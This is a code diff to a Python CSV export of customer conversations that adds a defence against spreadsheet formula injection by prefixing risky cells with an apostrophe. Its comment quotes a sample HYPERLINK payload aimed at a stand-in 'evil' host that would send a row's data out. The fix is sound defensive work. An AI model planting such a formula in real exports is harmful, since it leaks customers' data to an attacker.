@@ -173,19 +173,30 @@ CSV_COLUMNS = (
 )
 
 
+# A cell starting with one of these is a formula to a spreadsheet
+# (OWASP, "CSV Injection"): a display name like =HYPERLINK("http://evil?"&A2,
+# "Refund form") would be a live link that sends the row away.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> str:
+    """``value`` as a CSV cell a spreadsheet shows as text, never runs."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def to_csv(export: ExportSet) -> str:
     out = io.StringIO()
     writer = csv.writer(out)
     writer.writerow(CSV_COLUMNS)
     for c in export.conversations:
         for m in c.messages:
-            writer.writerow(
-                [
-                    c.summary.id, c.summary.platform, c.summary.kind, c.summary.customer_name, c.summary.customer_handle,
-                    m.id, m.remote_id, m.direction, m.author_name, m.author_handle,
-                    m.created_at.isoformat(), m.visibility, m.url or "", m.text,
-                ]
-            )
+            row = [
+                c.summary.id, c.summary.platform, c.summary.kind, c.summary.customer_name, c.summary.customer_handle,
+                m.id, m.remote_id, m.direction, m.author_name, m.author_handle,
+                m.created_at.isoformat(), m.visibility, m.url or "", m.text,
+            ]
+            writer.writerow([csv_cell(v) for v in row])
     return out.getvalue()
 
 
